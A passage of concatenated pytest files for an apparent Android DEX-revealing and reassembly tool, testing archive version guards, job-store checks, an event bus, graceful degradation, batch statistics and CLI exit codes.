.method public onCreate(Landroid/os/Bundle;)V
    .registers 2
    return-void
.end method
""")])
    config = RevealConfig(use_force_execution=True, force_iterations=2)
    result = CollectStage(config).run(apk)
    directory = str(tmp_path / "archive")
    result.archive.save(directory)
    state_path = os.path.join(directory, "exploration_state.json")
    with open(state_path, encoding="utf-8") as fh:
        state = json.load(fh)
    state["version"] = exploration_version
    with open(state_path, "w", encoding="utf-8") as fh:
        json.dump(state, fh)
    return directory


class TestReassembleVersionGuard:
    def test_foreign_exploration_state_exits_two(self, tmp_path, capsys):
        directory = _archive_dir(tmp_path, exploration_version=99)
        code = main(["reassemble", directory])
        captured = capsys.readouterr()
        assert code == 2
        # One diagnostic line, no traceback, and it names the problem.
        assert "corrupt archive" in captured.err
        assert "exploration state version 99" in captured.err
        assert len(captured.err.strip().splitlines()) == 1
        # The reassembled DEX was never written.
        assert not os.path.exists(os.path.join(directory, "reassembled.dex"))

    def test_valid_archive_still_reassembles(self, tmp_path, capsys):
        directory = _archive_dir(tmp_path, exploration_version=1)
        assert main(["reassemble", directory]) == 0
        assert os.path.exists(os.path.join(directory, "reassembled.dex"))

    def test_foreign_predecode_index_exits_two(self, tmp_path, capsys):
        archive = CollectionArchive.from_collector(DexLegoCollector())
        archive.set_predecode_index({"version": 7, "methods": []})
        directory = str(tmp_path / "warmarchive")
        archive.save(directory)
        code = main(["reassemble", directory])
        captured = capsys.readouterr()
        assert code == 2
        assert "predecode index version 7" in captured.err


class TestWatchVersionGuard:
    def _store_with_foreign_record(self, tmp_path) -> str:
        directory = str(tmp_path / "store")
        store = JobStore(directory)
        record = store.make_record(job_id="job-old", app_id="g.app",
                                   apk=Apk("g.app", "Lg/App;", []))
        record["version"] = 99
        store.save(record)
        return directory

    def test_watch_refuses_foreign_store(self, tmp_path, capsys):
        directory = self._store_with_foreign_record(tmp_path)
        code = main(["watch", "--store", directory])
        captured = capsys.readouterr()
        assert code == 2
        assert "format version 99" in captured.err
        assert "job-old" in captured.err
        assert len(captured.err.strip().splitlines()) == 1

    def test_watch_follow_refuses_instead_of_hanging(self, tmp_path, capsys):
        directory = self._store_with_foreign_record(tmp_path)
        # Before the guard this tailed an apparently-empty queue until
        # --timeout; now it must return immediately.
        code = main(["watch", "--store", directory, "--follow",
                     "--timeout", "30"])
        assert code == 2

    def test_status_refuses_foreign_store(self, tmp_path, capsys):
        directory = self._store_with_foreign_record(tmp_path)
        assert main(["status", "--store", directory]) == 2
        assert "format version 99" in capsys.readouterr().err

    def test_clean_store_still_watches(self, tmp_path, capsys):
        directory = str(tmp_path / "clean")
        store = JobStore(directory)
        store.save(store.make_record(job_id="job-new", app_id="g.app",
                                     apk=Apk("g.app", "Lg/App;", [])))
        assert main(["watch", "--store", directory]) == 0
        assert main(["status", "--store", directory, "--json"]) == 0


class TestMissingStoreGuard:
    """``status``/``watch`` over a path that is not a job store.

    These are read-only inspection commands: a typo'd ``--store`` must
    exit 2 with one diagnostic line — not scaffold an empty store and
    render an empty queue (which ``watch --follow`` would then tail
    until its timeout).
    """

    def test_status_on_nonexistent_path_exits_two(self, tmp_path, capsys):
        path = str(tmp_path / "no-such-store")
        assert main(["status", "--store", path]) == 2
        captured = capsys.readouterr()
        assert "no job store at" in captured.err
        assert "Traceback" not in captured.err
        assert len(captured.err.strip().splitlines()) == 1
        assert not os.path.exists(path)  # nothing was scaffolded

    def test_watch_on_nonexistent_path_exits_two(self, tmp_path, capsys):
        path = str(tmp_path / "no-such-store")
        assert main(["watch", "--store", path]) == 2
        assert "no job store at" in capsys.readouterr().err
        assert not os.path.exists(path)

    def test_watch_follow_returns_immediately(self, tmp_path, capsys):
        # Before the guard, --follow on a missing store would tail an
        # auto-created empty queue until --timeout expired.
        path = str(tmp_path / "no-such-store")
        assert main(["watch", "--store", path, "--follow",
                     "--timeout", "30"]) == 2

    def test_store_path_that_is_a_file_exits_two(self, tmp_path, capsys):
        path = tmp_path / "a-file"
        path.write_text("not a store")
        assert main(["status", "--store", str(path)]) == 2
        assert "no job store at" in capsys.readouterr().err

    def test_directory_without_jobs_is_not_mutated(self, tmp_path, capsys):
        # A real directory that is not a store must be refused without
        # JobStore scaffolding ``jobs/`` inside it.
        path = tmp_path / "plain-dir"
        path.mkdir()
        (path / "unrelated.txt").write_text("keep me")
        assert main(["status", "--store", str(path)]) == 2
        assert "no job store at" in capsys.readouterr().err
        assert sorted(os.listdir(path)) == ["unrelated.txt"]
