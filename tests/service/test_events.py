"""The unified event stream: ordering, thread-safety, consumers."""

import threading

from repro.service import (
    EVENT_CANCELLED,
    EVENT_DONE,
    EVENT_STAGE,
    EVENT_STARTED,
    EVENT_SUBMITTED,
    TERMINAL_EVENTS,
    EventBus,
    JobEvent,
)


class TestJobEvent:
    def test_round_trip(self):
        event = JobEvent(EVENT_STAGE, "job-1", "app", seq=7,
                         timestamp=12.5, payload={"stage": "collect"})
        again = JobEvent.from_dict(event.to_dict())
        assert again == event

    def test_terminal_flag(self):
        assert JobEvent(EVENT_DONE, "j").terminal
        assert JobEvent(EVENT_CANCELLED, "j").terminal
        assert not JobEvent(EVENT_STARTED, "j").terminal
        assert TERMINAL_EVENTS == {"done", "failed", "cancelled"}


class TestEventBus:
    def test_global_sequence_is_monotone(self):
        bus = EventBus()
        events = [bus.publish(EVENT_SUBMITTED, f"job-{i}") for i in range(5)]
        assert [e.seq for e in events] == [0, 1, 2, 3, 4]
        assert [e.seq for e in bus.history] == [0, 1, 2, 3, 4]

    def test_observer_receives_everything(self):
        bus = EventBus()
        seen = []
        bus.add_observer(seen.append)
        bus.publish(EVENT_SUBMITTED, "a")
        bus.publish(EVENT_DONE, "a")
        assert [e.kind for e in seen] == [EVENT_SUBMITTED, EVENT_DONE]

    def test_broken_observer_does_not_break_publish(self):
        bus = EventBus()

        def boom(event):
            raise RuntimeError("progress UI died")

        good = []
        bus.add_observer(boom)
        bus.add_observer(good.append)
        bus.publish(EVENT_SUBMITTED, "a")
        assert len(good) == 1

    def test_subscriber_sees_events_after_subscription(self):
        bus = EventBus()
        bus.publish(EVENT_SUBMITTED, "early")
        stream = bus.subscribe()
        bus.publish(EVENT_DONE, "late")
        bus.close()
        assert [e.job_id for e in stream] == ["late"]

    def test_iteration_ends_on_close(self):
        bus = EventBus()
        stream = bus.subscribe()
        collected = []

        def consume():
            collected.extend(stream)

        thread = threading.Thread(target=consume)
        thread.start()
        bus.publish(EVENT_SUBMITTED, "x")
        bus.publish(EVENT_DONE, "x")
        bus.close()
        thread.join(timeout=5)
        assert not thread.is_alive()
        assert [e.kind for e in collected] == [EVENT_SUBMITTED, EVENT_DONE]

    def test_stream_next_timeout(self):
        bus = EventBus()
        stream = bus.subscribe()
        assert stream.next(timeout=0.01) is None
        bus.publish(EVENT_SUBMITTED, "y")
        event = stream.next(timeout=1)
        assert event is not None and event.job_id == "y"

    def test_publish_after_close_is_a_noop(self):
        bus = EventBus()
        bus.close()
        event = bus.publish(EVENT_SUBMITTED, "z")
        assert event.seq == -1
        assert bus.history == []

    def test_events_for_filters_by_job(self):
        bus = EventBus()
        bus.publish(EVENT_SUBMITTED, "a")
        bus.publish(EVENT_SUBMITTED, "b")
        bus.publish(EVENT_DONE, "a")
        assert [e.kind for e in bus.events_for("a")] == \
            [EVENT_SUBMITTED, EVENT_DONE]

    def test_history_is_bounded(self):
        bus = EventBus(history_limit=3)
        for i in range(10):
            bus.publish(EVENT_SUBMITTED, f"j{i}")
        assert [e.job_id for e in bus.history] == ["j7", "j8", "j9"]

    def test_concurrent_publishers_keep_one_total_order(self):
        bus = EventBus(history_limit=10_000)
        stream = bus.subscribe()

        def publish_many(prefix):
            for i in range(100):
                bus.publish(EVENT_STAGE, f"{prefix}-{i}")

        threads = [threading.Thread(target=publish_many, args=(t,))
                   for t in ("a", "b", "c", "d")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        bus.close()
        seqs = [e.seq for e in stream]
        assert len(seqs) == 400
        assert seqs == sorted(seqs)  # queue order == publication order
        assert [e.seq for e in bus.history] == sorted(seqs)
