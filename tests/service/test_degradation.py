"""Graceful degradation: a reveal must never fail because an optional
subsystem (index, cluster, cache, predecode index) is corrupt,
foreign-versioned or unavailable — it degrades, warns once, and stamps
the outcome."""

import json
import os

import pytest

from repro import faults
from repro.core import (
    CollectionArchive,
    DexLego,
    DexLegoCollector,
    RevealConfig,
    reveal_from_archive,
)
from repro.faults import FAULT_OS_ERROR, FaultPlan, FaultRule
from repro.service import (
    EVENT_DEGRADED,
    STATUS_OK,
    JobStore,
    RevealCache,
    RevealGateway,
    RevealServer,
    RevealOutcome,
)
from repro.service.batch import BatchRevealService, RevealJob

from tests.conftest import build_simple_apk


def _foreign_index_dir(tmp_path, name="index") -> str:
    directory = tmp_path / name
    directory.mkdir()
    (directory / "index_meta.json").write_text(
        json.dumps({"version": 999}))
    return str(directory)


def _foreign_cluster_dir(tmp_path, name="cluster") -> str:
    directory = tmp_path / name
    directory.mkdir()
    (directory / "cluster_meta.json").write_text("{definitely not json")
    return str(directory)


class TestServiceDegrades:
    def test_foreign_index_degrades_not_fails(self, tmp_path, caplog):
        service = BatchRevealService(
            index_dir=_foreign_index_dir(tmp_path), workers=1)
        with caplog.at_level("WARNING"):
            outcome = service.reveal_one(
                RevealJob(app_id="a", apk=build_simple_apk("deg.index")))
        assert outcome.status == STATUS_OK
        assert outcome.degraded == ["index"]
        assert outcome.index_stats == {}
        reasons = service.degraded_subsystems()
        assert "ValueError" in reasons["index"]
        warnings = [r for r in caplog.records
                    if "index unavailable" in r.getMessage()]
        assert len(warnings) == 1
        # A second reveal does not retry (or re-warn about) the open.
        service.reveal_one(
            RevealJob(app_id="b", apk=build_simple_apk("deg.index2")))
        warnings = [r for r in caplog.records
                    if "index unavailable" in r.getMessage()]
        assert len(warnings) == 1

    def test_corrupt_cluster_degrades_not_fails(self, tmp_path):
        service = BatchRevealService(
            cluster_dir=_foreign_cluster_dir(tmp_path), workers=1)
        outcome = service.reveal_one(
            RevealJob(app_id="a", apk=build_simple_apk("deg.cluster")))
        assert outcome.status == STATUS_OK
        assert outcome.degraded == ["cluster"]
        assert outcome.cluster_stats == {}

    def test_multiple_degradations_are_sorted(self, tmp_path):
        service = BatchRevealService(
            index_dir=_foreign_index_dir(tmp_path),
            cluster_dir=_foreign_cluster_dir(tmp_path), workers=1)
        outcome = service.reveal_one(
            RevealJob(app_id="a", apk=build_simple_apk("deg.both")))
        assert outcome.status == STATUS_OK
        assert outcome.degraded == ["cluster", "index"]

    def test_degraded_round_trips_through_summary(self):
        outcome = RevealOutcome(app_id="a", status=STATUS_OK,
                                degraded=["cache", "index"])
        summary = outcome.to_summary()
        assert summary["degraded"] == ["cache", "index"]
        assert RevealOutcome.from_summary(summary).degraded == \
               ["cache", "index"]


class TestPredecodeDegrades:
    def _warm_archive(self, tmp_path) -> str:
        archive = CollectionArchive.from_collector(DexLegoCollector())
        archive.set_predecode_index({"version": 7, "methods": []})
        directory = str(tmp_path / "warm")
        archive.save(directory)
        return directory

    def test_strict_load_still_raises(self, tmp_path):
        directory = self._warm_archive(tmp_path)
        with pytest.raises(ValueError):
            CollectionArchive.load(directory)

    def test_non_strict_drops_predecode_and_notes_it(self, tmp_path):
        directory = self._warm_archive(tmp_path)
        archive = CollectionArchive.load(directory, strict=False)
        assert archive.predecode_index() is None

    def test_pipeline_notes_predecode_degradation(self, tmp_path):
        directory = self._warm_archive(tmp_path)
        lego = DexLego()
        with pytest.raises(ValueError):
            lego.reveal_from_archive(directory)  # strict by default
        result = lego.reveal_from_archive(directory, strict=False)
        assert result is not None
        assert "predecode" in lego.pipeline.degraded

    def test_module_entry_point_passes_strict(self, tmp_path):
        directory = self._warm_archive(tmp_path)
        with pytest.raises(ValueError):
            reveal_from_archive(directory)
        assert reveal_from_archive(directory, strict=False) is not None


class TestCacheDegrades:
    def test_failed_cache_write_degrades_not_fails(self, tmp_path):
        cache = RevealCache(str(tmp_path / "cache"))
        outcome = RevealOutcome(app_id="a", status=STATUS_OK)
        plan = FaultPlan([FaultRule("cache.write", FAULT_OS_ERROR,
                                    times=10)])
        with faults.armed(plan):
            admitted = cache.put("key", outcome)
        assert admitted is False
        assert cache.write_failures == 1
        assert outcome.degraded == ["cache"]
        # The entry is simply absent; the next run recomputes.
        assert cache.get("key") is None


class TestDegradedEvents:
    def test_server_publishes_degraded_before_terminal(self, tmp_path):
        config = RevealConfig(index_dir=_foreign_index_dir(tmp_path))
        with RevealServer(config=config, workers=1) as server:
            stream = server.bus.subscribe()
            handle = server.submit(build_simple_apk("deg.events"))
            outcome = handle.wait(timeout=120)
            assert outcome is not None and outcome.degraded == ["index"]
            kinds = []
            while True:
                event = stream.next(timeout=5)
                assert event is not None, "terminal event never arrived"
                kinds.append(event.kind)
                if event.terminal:
                    break
            assert EVENT_DEGRADED in kinds
            assert kinds.index(EVENT_DEGRADED) < len(kinds) - 1
            degraded = [e for e in server.bus.history
                        if e.kind == EVENT_DEGRADED]
            assert degraded[0].payload["subsystems"] == ["index"]


class TestGatewayStats:
    def test_stats_count_degraded_reveals(self, tmp_path):
        store = JobStore(str(tmp_path / "store"))
        apk = build_simple_apk("deg.stats")
        for job_id, subsystems in (("j1", ["index"]),
                                   ("j2", ["cluster", "index"]),
                                   ("j3", [])):
            record = store.make_record(job_id=job_id, app_id=job_id,
                                       apk=apk)
            record["state"] = "done"
            record["outcome"] = {"app_id": job_id, "status": STATUS_OK,
                                 "degraded": subsystems}
            store.save(record)
        gateway = RevealGateway(store)
        stats = gateway.stats()
        assert stats["degraded"]["reveals_degraded"] == 2
        assert stats["degraded"]["by_subsystem"] == {"index": 2,
                                                     "cluster": 1}
        assert stats["store"] == {"corrupt_records": 0,
                                  "corrupt_event_lines": 0}
