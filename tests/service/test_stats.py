"""BatchReport aggregates and the percentile helper."""

import pytest

from repro.service import (
    STATUS_CRASHED,
    STATUS_ERROR,
    STATUS_OK,
    BatchReport,
    RevealOutcome,
    percentile,
)


def _outcome(status=STATUS_OK, latency=0.1, hit=False, app_id="a"):
    return RevealOutcome(app_id=app_id, status=status, latency_s=latency,
                         cache_hit=hit)


class TestPercentile:
    def test_empty(self):
        assert percentile([], 0.5) == 0.0

    def test_single(self):
        assert percentile([7.0], 0.95) == 7.0

    def test_median_and_tail(self):
        values = [1.0, 2.0, 3.0, 4.0, 5.0]
        assert percentile(values, 0.5) == 3.0
        assert percentile(values, 0.0) == 1.0
        assert percentile(values, 1.0) == 5.0
        assert percentile(values, 0.95) == pytest.approx(4.8)

    def test_unsorted_input(self):
        assert percentile([5.0, 1.0, 3.0], 0.5) == 3.0

    def test_rejects_bad_quantile(self):
        with pytest.raises(ValueError):
            percentile([1.0], 1.5)


class TestBatchReport:
    def test_counts_and_rates(self):
        report = BatchReport(
            outcomes=[
                _outcome(STATUS_OK, 0.1),
                _outcome(STATUS_OK, 0.3, hit=True),
                _outcome(STATUS_CRASHED, 0.2),
                _outcome(STATUS_ERROR, 0.4),
            ],
            wall_time_s=2.0,
            workers=2,
            backend="thread",
        )
        assert report.total == 4
        assert report.ok_count == 2
        assert report.failed_count == 2
        assert report.status_counts()[STATUS_CRASHED] == 1
        assert report.cache_hits == 1
        assert report.cache_hit_rate == 0.25
        assert report.apps_per_sec == 2.0
        # Cache hits don't pollute the latency distribution.
        assert sorted(report.latencies) == [0.1, 0.2, 0.4]

    def test_empty_report(self):
        report = BatchReport()
        assert report.total == 0
        assert report.cache_hit_rate == 0.0
        assert report.apps_per_sec == 0.0
        assert report.p50_latency_s == 0.0
        assert "(empty batch)" in report.render()

    def test_summary_is_json_safe(self):
        import json

        report = BatchReport(outcomes=[_outcome()], wall_time_s=1.0)
        blob = json.dumps(report.summary())
        assert "cache_hit_rate" in blob
        assert "p95_latency_s" in blob

    def test_render_mentions_throughput_and_cache(self):
        report = BatchReport(outcomes=[_outcome(hit=True)], wall_time_s=0.5,
                             workers=3, backend="thread")
        text = report.render()
        assert "apps/sec" in text
        assert "1/1 hits" in text
        assert "3 thread worker(s)" in text


class TestQueueWaits:
    def _waited(self, wait, **kwargs):
        outcome = _outcome(**kwargs)
        outcome.queue_wait_s = wait
        return outcome

    def test_percentiles_over_waits(self):
        report = BatchReport(
            outcomes=[self._waited(w) for w in (0.1, 0.2, 0.3, 0.4)],
            wall_time_s=1.0,
        )
        assert report.p50_queue_wait_s == pytest.approx(0.25)
        assert report.p95_queue_wait_s == pytest.approx(0.385)
        assert report.summary()["p50_queue_wait_s"] == pytest.approx(0.25)
        assert "queue wait:" in report.render()

    def test_no_queue_no_noise(self):
        # A pool run that never queued reports zeros and no render line.
        report = BatchReport(outcomes=[_outcome(), _outcome()],
                             wall_time_s=1.0)
        assert report.queue_waits == []
        assert report.p50_queue_wait_s == 0.0
        assert "queue wait:" not in report.render()
        assert report.summary()["p95_queue_wait_s"] == 0.0

    def test_outcome_summary_carries_queue_wait(self):
        outcome = self._waited(0.125)
        assert outcome.to_summary()["queue_wait_s"] == 0.125
