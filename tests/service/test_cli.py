"""The ``python -m repro.service`` batch CLI."""

import json

import pytest

from repro.service import JobStore
from repro.service.cli import build_corpus_jobs, main


class TestCorpusBuilder:
    def test_fdroid_default(self):
        jobs = build_corpus_jobs("fdroid")
        assert len(jobs) == 5
        assert jobs[0].app_id == "be.ppareit.swiftp"

    def test_limit(self):
        assert len(build_corpus_jobs("fdroid", limit=2)) == 2

    def test_droidbench_pins_devices(self):
        jobs = build_corpus_jobs("droidbench", limit=3)
        assert all(job.device is not None for job in jobs)

    def test_unknown_corpus(self):
        with pytest.raises(ValueError):
            build_corpus_jobs("playstore")


class TestMain:
    def test_no_command_prints_help(self, capsys):
        assert main([]) == 2
        assert "reveal-batch" in capsys.readouterr().out

    def test_cold_then_warm_run(self, tmp_path, capsys):
        args = ["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                "--workers", "2", "--cache-dir", str(tmp_path)]
        assert main(args) == 0
        cold = capsys.readouterr().out
        assert "miss" in cold and "be.ppareit.swiftp" in cold
        assert "apps/sec" in cold

        assert main(args) == 0
        warm = capsys.readouterr().out
        assert "hit" in warm
        assert "1/1 hits" in warm

    def test_json_output(self, tmp_path, capsys):
        assert main(["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                     "--workers", "2", "--json",
                     "--cache-dir", str(tmp_path)]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["corpus"] == "fdroid"
        assert payload["summary"]["total"] == 1
        assert payload["outcomes"][0]["status"] == "ok"
        assert "cache_hit_rate" in payload["summary"]


class TestExitCodes:
    def test_all_failure_report_exits_nonzero(self, monkeypatch, capsys):
        # Every job erroring must not look like success to a caller.
        from repro.service import batch as batch_module

        def exploding(self, job, key="", observer=None, wave_observer=None):
            from repro.service.outcomes import RevealOutcome

            return RevealOutcome(app_id=job.app_id, status="error",
                                 error="forced", cache_key=key)

        monkeypatch.setattr(batch_module.BatchRevealService, "_run_job",
                            exploding)
        assert main(["reveal-batch", "--corpus", "fdroid",
                     "--limit", "2"]) == 1

    def test_all_crashed_report_exits_nonzero(self, monkeypatch, capsys):
        from repro.service import batch as batch_module

        def crashed(self, job, key="", observer=None, wave_observer=None):
            from repro.service.outcomes import RevealOutcome

            return RevealOutcome(app_id=job.app_id, status="crashed",
                                 error="boom", cache_key=key)

        monkeypatch.setattr(batch_module.BatchRevealService, "_run_job",
                            crashed)
        assert main(["reveal-batch", "--corpus", "fdroid",
                     "--limit", "2"]) == 1

    def test_partial_failure_still_exits_nonzero(self, monkeypatch, capsys):
        from repro.service import batch as batch_module

        original = batch_module.BatchRevealService._run_job

        def flaky(self, job, key="", observer=None, wave_observer=None):
            if job.app_id.endswith("swiftp"):
                from repro.service.outcomes import RevealOutcome

                return RevealOutcome(app_id=job.app_id, status="error",
                                     error="forced", cache_key=key)
            return original(self, job, key, observer, wave_observer)

        monkeypatch.setattr(batch_module.BatchRevealService, "_run_job",
                            flaky)
        assert main(["reveal-batch", "--corpus", "fdroid",
                     "--limit", "2"]) == 1


class TestServerCommands:
    """submit → serve → status → watch against one shared store."""

    def _store(self, tmp_path):
        return str(tmp_path / "queue")

    def test_submit_then_serve_then_status(self, tmp_path, capsys):
        store = self._store(tmp_path)
        assert main(["submit", "--store", store, "--corpus", "fdroid",
                     "--limit", "2", "--json"]) == 0
        submitted = json.loads(capsys.readouterr().out)
        assert len(submitted["submitted"]) == 2

        assert main(["serve", "--store", store, "--workers", "2",
                     "--json"]) == 0
        served = json.loads(capsys.readouterr().out)
        assert served["jobs"] == {"done": 2}

        assert main(["status", "--store", store, "--json"]) == 0
        status = json.loads(capsys.readouterr().out)
        assert status["counts"] == {"done": 2}
        assert all(job["status"] == "ok" for job in status["jobs"])
        assert all(job["queue_wait_s"] >= 0 for job in status["jobs"])

    def test_watch_prints_lifecycle(self, tmp_path, capsys):
        store = self._store(tmp_path)
        assert main(["submit", "--store", store, "--corpus", "fdroid",
                     "--limit", "1"]) == 0
        assert main(["serve", "--store", store, "--workers", "1"]) == 0
        capsys.readouterr()
        assert main(["watch", "--store", store]) == 0
        out = capsys.readouterr().out
        assert "submitted" in out and "started" in out and "done" in out
        # Per-job order: submitted precedes started precedes done.
        assert out.index("submitted") < out.index("started") < \
            out.index("done")

    def test_watch_follow_ends_when_all_terminal(self, tmp_path, capsys):
        store = self._store(tmp_path)
        assert main(["submit", "--store", store, "--corpus", "fdroid",
                     "--limit", "1"]) == 0
        assert main(["serve", "--store", store, "--workers", "1"]) == 0
        capsys.readouterr()
        assert main(["watch", "--store", store, "--follow",
                     "--timeout", "10"]) == 0

    def test_serve_priorities_order_completions(self, tmp_path, capsys):
        store = self._store(tmp_path)
        assert main(["submit", "--store", store, "--corpus", "fdroid",
                     "--limit", "2", "--priority", "low"]) == 0
        assert main(["submit", "--store", store, "--corpus", "aosp",
                     "--limit", "2", "--priority", "high"]) == 0
        assert main(["serve", "--store", store, "--workers", "1",
                     "--json"]) == 0
        capsys.readouterr()
        assert main(["status", "--store", store, "--json"]) == 0
        status = json.loads(capsys.readouterr().out)
        finished = {job["job_id"]: job for job in status["jobs"]}
        records = JobStore(store).load_all()
        high_finish = [r["finished_at"] for r in records
                       if r["priority"] == 0]
        low_finish = [r["finished_at"] for r in records
                      if r["priority"] == 2]
        assert len(high_finish) == 2 and len(low_finish) == 2
        assert max(high_finish) <= min(low_finish)
        assert all(job["state"] == "done" for job in finished.values())

    def test_serve_empty_store_is_clean(self, tmp_path, capsys):
        store = self._store(tmp_path)
        assert main(["serve", "--store", store, "--json"]) == 0
        served = json.loads(capsys.readouterr().out)
        assert served["jobs"] == {}

    def test_serve_exits_nonzero_when_jobs_failed(self, tmp_path, capsys):
        # A drain that left failed jobs must not look like success —
        # the serve analogue of reveal-batch's all-failure exit code.
        from repro.runtime import Apk
        from tests.conftest import build_simple_apk

        store_dir = self._store(tmp_path)
        store = JobStore(store_dir)
        broken = Apk("cli.broken", "Lnope/Missing;",
                     build_simple_apk("cli.broken").dex_files)
        store.save(store.make_record(job_id="bad", app_id="cli.broken",
                                     apk=broken))
        assert main(["serve", "--store", store_dir, "--json"]) == 1
        served = json.loads(capsys.readouterr().out)
        assert served["jobs"] == {"failed": 1}

    def test_status_and_watch_reject_missing_store(self, tmp_path, capsys):
        import os

        missing = str(tmp_path / "typo")
        assert main(["status", "--store", missing]) == 2
        assert "no job store" in capsys.readouterr().err
        assert main(["watch", "--store", missing]) == 2
        assert "no job store" in capsys.readouterr().err
        # Inspection must not have created the directory.
        assert not os.path.exists(missing)

    def test_runner_delegates_server_commands(self, tmp_path, capsys):
        from repro.harness.runner import main as runner_main

        store = self._store(tmp_path)
        assert runner_main(["submit", "--store", store, "--corpus",
                            "fdroid", "--limit", "1", "--json"]) == 0
        submitted = json.loads(capsys.readouterr().out)
        assert len(submitted["submitted"]) == 1
        assert runner_main(["serve", "--store", store, "--json"]) == 0
        served = json.loads(capsys.readouterr().out)
        assert served["jobs"] == {"done": 1}


class TestReassembleCommand:
    def _saved_archive(self, tmp_path, package="cli.reasm"):
        from repro.core import CollectStage
        from tests.conftest import build_simple_apk

        target = str(tmp_path / "archive")
        CollectStage().run(build_simple_apk(package)).archive.save(target)
        return target

    def test_reassemble_emits_valid_dex(self, tmp_path, capsys):
        from repro.dex import assert_valid, read_dex

        archive = self._saved_archive(tmp_path)
        out = str(tmp_path / "revealed.dex")
        assert main(["reassemble", archive, "--out", out]) == 0
        with open(out, "rb") as fh:
            assert_valid(read_dex(fh.read()))
        printed = capsys.readouterr().out
        assert "reassembled" in printed and "reassemble=" in printed

    def test_default_out_lands_in_archive_dir(self, tmp_path, capsys):
        import os

        archive = self._saved_archive(tmp_path, "cli.reasm.dflt")
        assert main(["reassemble", archive]) == 0
        assert os.path.exists(os.path.join(archive, "reassembled.dex"))

    def test_json_summary(self, tmp_path, capsys):
        archive = self._saved_archive(tmp_path, "cli.reasm.json")
        out = str(tmp_path / "r.dex")
        assert main(["reassemble", archive, "--out", out, "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["out"] == out
        assert payload["classes"] >= 1
        assert set(payload["stage_timings"]) == {"reassemble", "verify"}

    def test_missing_archive_is_exit_2(self, tmp_path, capsys):
        assert main(["reassemble", str(tmp_path / "nope")]) == 2
        assert "cannot read archive" in capsys.readouterr().err

    def test_unwritable_out_is_exit_2(self, tmp_path, capsys):
        archive = self._saved_archive(tmp_path, "cli.reasm.ro")
        out = str(tmp_path / "no" / "such" / "dir" / "r.dex")
        assert main(["reassemble", archive, "--out", out]) == 2
        assert "cannot write DEX" in capsys.readouterr().err


class TestReassembleRobustness:
    """Bad archives exit non-zero with a one-line error, no traceback."""

    def _fill(self, directory, payload: bytes):
        from repro.core.collection_files import ALL_FILES

        directory.mkdir(exist_ok=True)
        for name in ALL_FILES:
            (directory / name).write_bytes(payload)
        return str(directory)

    def test_binary_garbage_is_exit_2_one_line(self, tmp_path, capsys):
        archive = self._fill(tmp_path / "bin", b"\xff\xfe\x00bad")
        assert main(["reassemble", archive]) == 2
        err = capsys.readouterr().err
        assert "corrupt archive" in err
        assert len(err.strip().splitlines()) == 1

    def test_invalid_json_is_exit_1_one_line(self, tmp_path, capsys):
        archive = self._fill(tmp_path / "txt", b"not json {{")
        assert main(["reassemble", archive]) == 1
        err = capsys.readouterr().err
        assert "reassembly failed" in err
        assert len(err.strip().splitlines()) == 1

    def test_archive_path_that_is_a_file_is_exit_2(self, tmp_path, capsys):
        target = tmp_path / "file.json"
        target.write_text("x")
        assert main(["reassemble", str(target)]) == 2
        assert "cannot read archive" in capsys.readouterr().err


class TestExplorationFlags:
    def test_reveal_batch_accepts_scheduler_knobs(self, capsys):
        args = ["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                "--force-execution", "--strategy", "rarity-first",
                "--max-paths", "5", "--explore-workers", "2", "--json"]
        assert main(args) == 0
        payload = json.loads(capsys.readouterr().out)
        exploration = payload["outcomes"][0]["exploration"]
        assert exploration["strategy"] == "rarity-first"
        assert exploration["paths_explored"] <= 5
        assert payload["summary"]["exploration"]["apps_explored"] == 1
