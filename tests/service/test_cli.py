"""The ``python -m repro.service`` batch CLI."""

import json

import pytest

from repro.service.cli import build_corpus_jobs, main


class TestCorpusBuilder:
    def test_fdroid_default(self):
        jobs = build_corpus_jobs("fdroid")
        assert len(jobs) == 5
        assert jobs[0].app_id == "be.ppareit.swiftp"

    def test_limit(self):
        assert len(build_corpus_jobs("fdroid", limit=2)) == 2

    def test_droidbench_pins_devices(self):
        jobs = build_corpus_jobs("droidbench", limit=3)
        assert all(job.device is not None for job in jobs)

    def test_unknown_corpus(self):
        with pytest.raises(ValueError):
            build_corpus_jobs("playstore")


class TestMain:
    def test_no_command_prints_help(self, capsys):
        assert main([]) == 2
        assert "reveal-batch" in capsys.readouterr().out

    def test_cold_then_warm_run(self, tmp_path, capsys):
        args = ["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                "--workers", "2", "--cache-dir", str(tmp_path)]
        assert main(args) == 0
        cold = capsys.readouterr().out
        assert "miss" in cold and "be.ppareit.swiftp" in cold
        assert "apps/sec" in cold

        assert main(args) == 0
        warm = capsys.readouterr().out
        assert "hit" in warm
        assert "1/1 hits" in warm

    def test_json_output(self, tmp_path, capsys):
        assert main(["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                     "--workers", "2", "--json",
                     "--cache-dir", str(tmp_path)]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["corpus"] == "fdroid"
        assert payload["summary"]["total"] == 1
        assert payload["outcomes"][0]["status"] == "ok"
        assert "cache_hit_rate" in payload["summary"]
