"""The ``python -m repro.service`` batch CLI."""

import json

import pytest

from repro.service.cli import build_corpus_jobs, main


class TestCorpusBuilder:
    def test_fdroid_default(self):
        jobs = build_corpus_jobs("fdroid")
        assert len(jobs) == 5
        assert jobs[0].app_id == "be.ppareit.swiftp"

    def test_limit(self):
        assert len(build_corpus_jobs("fdroid", limit=2)) == 2

    def test_droidbench_pins_devices(self):
        jobs = build_corpus_jobs("droidbench", limit=3)
        assert all(job.device is not None for job in jobs)

    def test_unknown_corpus(self):
        with pytest.raises(ValueError):
            build_corpus_jobs("playstore")


class TestMain:
    def test_no_command_prints_help(self, capsys):
        assert main([]) == 2
        assert "reveal-batch" in capsys.readouterr().out

    def test_cold_then_warm_run(self, tmp_path, capsys):
        args = ["reveal-batch", "--corpus", "fdroid", "--limit", "1",
                "--workers", "2", "--cache-dir", str(tmp_path)]
        assert main(args) == 0
        cold = capsys.readouterr().out
        assert "miss" in cold and "be.ppareit.swiftp" in cold
        assert "apps/sec" in cold

        assert main(args) == 0
        warm = capsys.readouterr().out
        assert "hit" in warm
        assert "1/1 hits" in warm

